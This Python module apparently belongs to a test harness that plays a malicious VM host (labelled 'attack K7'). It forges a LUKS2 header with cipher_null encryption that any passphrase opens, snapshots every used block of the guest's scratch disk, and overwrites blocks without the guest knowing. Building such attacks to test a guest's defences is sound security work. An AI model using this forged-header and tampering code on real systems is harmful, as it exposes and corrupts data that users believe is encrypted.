"""The scratch disk from the host's side: prepared with a lie, read and overwritten while the guest uses it."""

from __future__ import annotations

import hashlib
import os
import struct
from collections.abc import Iterator
from pathlib import Path

SIZE = 96 << 20
BLOCK = 4096
LUKS_MAGIC = b"LUKS\xba\xbe"


def make_scratch_file(path: Path) -> None:
    """A scratch disk that claims to be a LUKS2 volume without encryption (attack K7)."""
    with path.open("wb") as file:
        file.truncate(SIZE)
        file.write(null_cipher_header())


def null_cipher_header() -> bytes:
    """A LUKS2 header whose only segment is "encrypted" by cipher_null: any passphrase opens it.

    LUKS2 On-Disk Format 1.1, sections 2.1 and 3.1.
    """
    metadata = (
        b'{"keyslots":{},"tokens":{},"digests":{},"config":{"json_size":"12288","keyslots_size":"0"},'
        b'"segments":{"0":{"type":"crypt","offset":"16384","size":"dynamic","iv_tweak":"0",'
        b'"encryption":"cipher_null-ecb","sector_size":4096}}}'
    )
    area = metadata.ljust(12288, b"\0")
    header = struct.pack(
        ">6sHQQ48s32s64s40s48sQ184s64s3584s",
        LUKS_MAGIC, 2, 16384, 1, b"", b"sha256", bytes(64), b"attack-k7", b"", 0, b"", bytes(64), b"",
    )  # fmt: skip
    digest = hashlib.sha256(header + area).digest().ljust(64, b"\0")
    return header[:448] + digest + header[512:] + area


def used_blocks(path: Path) -> Iterator[tuple[int, bytes]]:
    """Offset and content of each block that is not a hole."""
    with path.open("rb") as file:
        fd, at = file.fileno(), 0
        while at < SIZE:
            try:
                at = os.lseek(fd, at, os.SEEK_DATA)
                end = os.lseek(fd, at, os.SEEK_HOLE)
            except OSError:  # ENXIO: nothing more
                return
            for start in range(at - at % BLOCK, end, BLOCK):
                yield start, os.pread(fd, BLOCK, start)
            at = end


def snapshot(path: Path) -> dict[int, bytes]:
    """All blocks that are there."""
    return dict(used_blocks(path))


def write_blocks(path: Path, blocks: dict[int, bytes]) -> None:
    """Puts blocks onto the disk behind the guest's back."""
    with path.open("r+b") as file:
        for at, content in blocks.items():
            os.pwrite(file.fileno(), content, at)
